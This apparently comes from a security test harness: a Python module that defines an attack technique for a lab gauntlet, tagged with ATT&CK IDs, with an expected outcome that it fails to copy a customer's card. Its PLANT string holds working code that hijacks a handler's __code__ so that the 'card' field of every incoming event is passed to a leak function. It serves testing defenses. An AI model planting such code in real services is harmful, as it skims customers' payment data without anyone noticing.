"""Replaces the handler's `__code__`, so that every later event is copied before the real handler gets it."""

from __future__ import annotations

from dayfly.lab.gauntlet.evidence import Cards
from dayfly.lab.gauntlet.technique import Technique

PLANT = """
import app
real = type(app.handler)(app.handler.__code__, app.handler.__globals__)
app._real, app._leak = real, leak
def evil(event, context):
    _leak(event.get("card"))
    return _real(event, context)
app.handler.__code__ = evil.__code__
"""

TECHNIQUE = Technique(
    level="L2",
    attack=("T1574", "T1565.003"),
    family="M1",
    must_fail_to="copy a later customer's card",
    plant=PLANT,
    evidence=Cards(),
)
